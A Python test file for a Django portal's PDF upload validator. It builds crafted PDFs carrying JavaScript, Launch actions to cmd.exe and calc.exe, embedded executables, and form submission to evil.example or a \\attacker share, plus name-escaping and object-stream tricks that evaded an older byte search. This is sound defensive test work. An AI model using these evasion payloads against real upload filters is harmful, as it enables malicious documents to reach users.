"""Active PDFs are refused, clean ones accepted: a corpus of crafted files (built here, byte by byte, see
tests/pdfs.py) through the platform's check (lde_portal.uploads.validate_upload), then through every form
that takes an upload, with the message at the field and nothing saved.

The check inspects the parsed document. The former one searched the raw bytes for /JavaScript, /Launch...,
which an object stream (compressed, so nothing readable in the bytes) or an escaped name (/#4AavaScript
is /JavaScript to every viewer) walked past; the cases marked `bytes_missed` passed it.
"""

import datetime
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from pypdf import PdfWriter
from pypdf.annotations import Link

from indication.models import Advice
from lde_portal import uploads
from pop.models import Training, YearlyReview
from tests.documents.helpers import EXPERIENCE_DATA
from tests.indication.test_indication import ADVICE
from tests.pdfs import CLEAN, PAGE, build, page_with
from tests.pop.helpers import ensure_catalogue, make_version
from trajects import services
from trajects.models import Extension

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
JS_STREAM = b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream"
LINK = b"<< /Type /Annot /Subtype /Link /Rect [50 50 200 80] /Border [0 0 0] /A %s >>"
MESSAGE = "bevat actieve inhoud"
# What the former check looked for in the raw bytes.
FORMER_MARKERS = (b"/JavaScript", b"/JS ", b"/JS(", b"/Launch", b"/EmbeddedFile")


def _annotation(action: bytes) -> dict:
    return page_with(page=b"/Annots [5 0 R]", extra={5: LINK % action})


# name: (file, kinds of active content found, whether the former byte search missed it)
ACTIVE = {
    "OpenAction with JavaScript": (build(page_with(catalog=b"/OpenAction " + SCRIPT)),
                                   {"javascript", "automatic"}, False),
    "OpenAction with JavaScript, in an object stream": (
        build(page_with(catalog=b"/OpenAction " + SCRIPT), object_stream=True), {"javascript", "automatic"}, True),
    "OpenAction with escaped names (#4A)": (
        build(page_with(catalog=b"/OpenAction << /S /#4AavaScript /#4AS (app.alert\\(1\\)) >>")),
        {"javascript", "automatic"}, True),
    "JavaScript in the names tree, in an object stream": (
        build(page_with(catalog=b"/Names << /JavaScript << /Names [(init) 5 0 R] >> >>",
                        extra={5: b"<< /S /JavaScript /JS 6 0 R >>", 6: JS_STREAM}), object_stream=True),
        {"javascript"}, True),
    "GoTo on opening with JavaScript chained after it": (
        build(page_with(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + SCRIPT + b" >>"),
              object_stream=True), {"javascript", "automatic"}, True),
    "a web address fetched on opening": (
        build(page_with(catalog=b"/OpenAction << /S /URI /URI (https://tracker.example/opened) >>")),
        {"automatic"}, True),
    "additional action on a page": (
        build(page_with(page=b"/AA << /O << /S /URI /URI (https://tracker.example/page) >> >>")),
        {"automatic"}, True),
    "additional action on an annotation, escaped": (
        build(page_with(page=b"/Annots [5 0 R]", extra={
            5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /AA << /E << /S /Java#53cript /#4A#53 (x) >> >> >>"})),
        {"javascript", "automatic"}, True),
    "additional action on a form field, in an object stream": (
        build(page_with(catalog=b"/AcroForm << /Fields [5 0 R] >>", page=b"/Annots [5 0 R]", extra={
            5: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (naam) /Rect [0 0 99 20] /P 3 0 R "
               b"/AA << /K " + SCRIPT + b" >> >>"}), object_stream=True),
        {"javascript", "automatic"}, True),
    "additional action on the catalog": (
        build(page_with(catalog=b"/AA << /WC << /S /Named /N /Print >> >>")), {"automatic"}, True),
    "Launch on opening": (build(page_with(catalog=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>")),
                          {"launch", "automatic"}, False),
    "Launch behind a link, escaped": (build(_annotation(b"<< /S /L#61unch /F (calc.exe) >>")), {"launch"}, True),
    "embedded file in the names tree": (
        build(page_with(catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>", extra={
            5: b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
            6: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"})), {"embedded"}, False),
    "embedded file, in an object stream": (
        build(page_with(catalog=b"/Names << /Embedded#46iles << /Names [(a.exe) 5 0 R] >> >>", extra={
            5: b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
            6: b"<< /Length 2 >>\nstream\nMZ\nendstream"}), object_stream=True), {"embedded"}, True),
    "file attachment annotation": (
        build(page_with(page=b"/Annots [5 0 R]", extra={
            5: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>",
            6: b"<< /Type /Filespec /F (factuur.exe) /EF << /F 7 0 R >> >>",
            7: b"<< /Length 2 >>\nstream\nMZ\nendstream"}), object_stream=True), {"embedded"}, True),
    "XFA form": (
        build(page_with(catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>", extra={
            5: b"<< /Length 44 >>\nstream\n<xdp:xdp><script>app.alert(1)</script></xdp:xdp>\nendstream"})),
        {"forms"}, True),
    "form data sent to a server": (
        build(_annotation(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >>")), {"forms"}, True),
    "link to a file on a Windows share": (
        build(_annotation(b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>")), {"links"}, True),
    "link to a local program": (build(_annotation(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>")),
                                {"links"}, True),
    "script in an object no page refers to": (
        build({**PAGE, 5: SCRIPT}, object_stream=True), {"javascript"}, True),
}

# name: (file, the word the message uses, whether the former byte search missed it)
NOT_INSPECTABLE = {
    "not a PDF after its first bytes": (b"%PDF-1.7\n...", "gelezen", True),
    "a PDF cut in half": (CLEAN[: len(CLEAN) // 2], "gelezen", True),
    # pypdf's parser gives up on thousands of levels; the inspection itself stops at PDF_MAX_DEPTH.
    "nesting deeper than the parser goes": (build(page_with(catalog=b"/X " + b"[" * 5000 + b"]" * 5000)),
                                            "gelezen", True),
    "nesting deeper than any document": (build(page_with(catalog=b"/X " + b"[" * 100 + b"]" * 100)),
                                         "te complex", True),
    "more objects than any letter": (
        build({**PAGE, **{n: b"<< /N %d >>" % n for n in range(5, 5 + uploads.PDF_MAX_DECLARED_OBJECTS)}},
              object_stream=True), "te complex", True),
    "object streams that decompress to more than the limit": (
        build(page_with(catalog=b"/Padding (" + b"0" * (uploads.PDF_MAX_DECOMPRESSED_BYTES + 1) + b")"),
              object_stream=True), "te complex", True),
}


def _writer_pdf(configure=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if configure:
        configure(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _encrypted(user_password):
    return lambda writer: writer.encrypt(user_password=user_password, owner_password="eigenaar",
                                         algorithm="RC4-128")


def _weasyprint_pdf():
    from weasyprint import HTML

    return HTML(string="""<h1 id="top">Attest</h1><p>Zie <a href="https://www.vdab.be">vdab.be</a>,
        <a href="mailto:info@stroom.demo">mail</a> of <a href="#top">boven</a>.</p>
        <h2>Bijlage</h2><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg==">""").write_pdf()


CLEAN_FILES = {
    "a blank page": lambda: CLEAN,
    "a blank page, in an object stream": lambda: build(PAGE, object_stream=True),
    "opening at a page (a destination)": lambda: build(page_with(catalog=b"/OpenAction [3 0 R /FitH 800]")),
    "opening with a GoTo action": lambda: build(page_with(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")),
    "a plain web link": lambda: build(_annotation(b"<< /S /URI /URI (https://www.vdab.be/) >>")),
    "a plain link made by pypdf's writer": lambda: _writer_pdf(lambda w: w.add_annotation(
        0, Link(rect=(50, 50, 200, 80), url="https://www.werk.belgie.be"))),
    "a fillable form without scripts": lambda: build(page_with(
        catalog=b"/AcroForm << /Fields [5 0 R] >>", page=b"/Annots [5 0 R]",
        extra={5: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (naam) /Rect [0 0 99 20] /P 3 0 R >>"})),
    "an owner password only (opens without a password)": lambda: _writer_pdf(_encrypted("")),
    "links, anchors and bookmarks made by WeasyPrint": _weasyprint_pdf,
    # Image data is arbitrary bytes: the former check refused a scan whose pixels happened to spell "/JS ".
    "a scan whose pixels spell /JS": lambda: build(page_with(
        page=b"/Resources << /XObject << /Im1 5 0 R >> >>",
        extra={5: b"<< /Type /XObject /Subtype /Image /Width 4 /Height 1 /ColorSpace /DeviceGray "
                  b"/BitsPerComponent 8 /Length 4 >>\nstream\n/JS \nendstream"})),
}


def _check(data):
    return uploads.validate_upload(SimpleUploadedFile("brief.pdf", data), allowed={"pdf"})


@pytest.mark.parametrize("name", ACTIVE)
def test_active_pdf_is_refused_with_what_it_contains(name):
    data, kinds, _bytes_missed = ACTIVE[name]
    with translation.override("nl"), pytest.raises(ValidationError) as refused:
        _check(data)
    message = refused.value.messages[0]
    assert message.startswith("Dit PDF-bestand bevat actieve inhoud (")
    assert message.endswith("en wordt geweigerd. Druk het af naar een nieuwe PDF en laad die op.")
    if "javascript" in kinds:
        assert "JavaScript" in message
    assert uploads.pdf_active_content(data) == kinds


@pytest.mark.parametrize("name", NOT_INSPECTABLE)
def test_pdf_that_cannot_be_parsed_is_refused(name):
    data, word, _bytes_missed = NOT_INSPECTABLE[name]
    with translation.override("nl"), pytest.raises(ValidationError) as refused:
        _check(data)
    assert word in refused.value.messages[0] and "Druk het af naar een nieuwe PDF" in refused.value.messages[0]


def test_pdf_that_needs_a_password_is_refused():
    with translation.override("nl"), pytest.raises(ValidationError) as refused:
        _check(_writer_pdf(_encrypted("geheim")))
    assert "beveiligd met een wachtwoord" in refused.value.messages[0]


@pytest.mark.parametrize("name", CLEAN_FILES)
def test_clean_pdf_is_accepted(name):
    assert _check(CLEAN_FILES[name]()) == "pdf"


@pytest.mark.django_db
def test_the_portals_own_attestation_is_accepted(personas):
    """A signed printout of an attestation the portal made comes back as an upload."""
    from lde_portal.documents import services as document_services

    document = document_services.document_issue(kind="experience_attestation", worker=personas.worker,
                                                 membership=personas.coach, data=EXPERIENCE_DATA)
    assert _check(document.file.read()) == "pdf"


# Through the forms: the message at the field, the typed text kept, nothing saved.
VIEW_CASES = [ACTIVE["OpenAction with JavaScript, in an object stream"][0],
              ACTIVE["OpenAction with escaped names (#4A)"][0], ACTIVE["embedded file, in an object stream"][0]]


def _url(p, name, **kwargs):
    return reverse(name, kwargs={"org_slug": p.org.slug, **kwargs})


@pytest.mark.django_db
@pytest.mark.parametrize("content", VIEW_CASES)
def test_extension_document(personas, login, content):
    trajectory = services.trajectory_start(worker=personas.worker, actor=None, regime="LDE",
                                           start=datetime.date(2023, 3, 1))
    response = login(personas.coordinator).post(_url(personas, "trajects:extension_add", pk=personas.worker.pk), {
        "version": trajectory.version, "reason": "ILLNESS", "months": "3", "decision_date": "06/01/2025", "note": "Besluit VDAB",
        "document": SimpleUploadedFile("besluit.pdf", content, content_type="application/pdf")})
    assert response.status_code == 200 and MESSAGE in response.content.decode()
    assert "Besluit VDAB" in response.content.decode() and not Extension.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize("content", VIEW_CASES)
def test_signed_review_printout(personas, login, content):
    ensure_catalogue()
    version = make_version(personas.worker)
    response = login(personas.coach).post(
        _url(personas, "pop:review_edit", pk=personas.worker.pk, version_pk=version.pk),
        {"date": "20/11/2026", "participants": "Jamal, Sara", "upload": SimpleUploadedFile("scan.pdf", content)})
    assert response.status_code == 200 and MESSAGE in response.content.decode()
    assert not YearlyReview.objects.exists()


@pytest.mark.django_db
def test_training_certificate(personas, login):
    response = login(personas.coordinator).post(_url(personas, "pop:training_add"), {
        "course": "VCA", "provider": "Syntra", "provider_type": "external", "hours": "8", "cost": "10",
        "start_date": "01/10/2026", "participants": [personas.worker.pk],
        "certificate_upload": SimpleUploadedFile("c.pdf", VIEW_CASES[0])})
    assert response.status_code == 200 and MESSAGE in response.content.decode()
    assert not Training.objects.exists()


@pytest.mark.django_db
def test_vdab_letter(personas, login):
    response = login(personas.coach).post(_url(personas, "indication:advice_add", pk=personas.worker.pk), {
        **ADVICE, "letter_upload": SimpleUploadedFile("brief.pdf", VIEW_CASES[1], content_type="application/pdf")})
    assert response.status_code == 200
    assert MESSAGE in " ".join(response.context["form"].errors["letter_upload"])
    assert 'value="An Verbeke"' in response.content.decode() and not Advice.objects.exists()


@pytest.mark.parametrize("name", [*ACTIVE, *NOT_INSPECTABLE])
def test_the_corpus_says_which_files_the_byte_search_missed(name):
    data, _found, bytes_missed = {**ACTIVE, **NOT_INSPECTABLE}[name]
    assert (not any(marker in data for marker in FORMER_MARKERS)) == bytes_missed
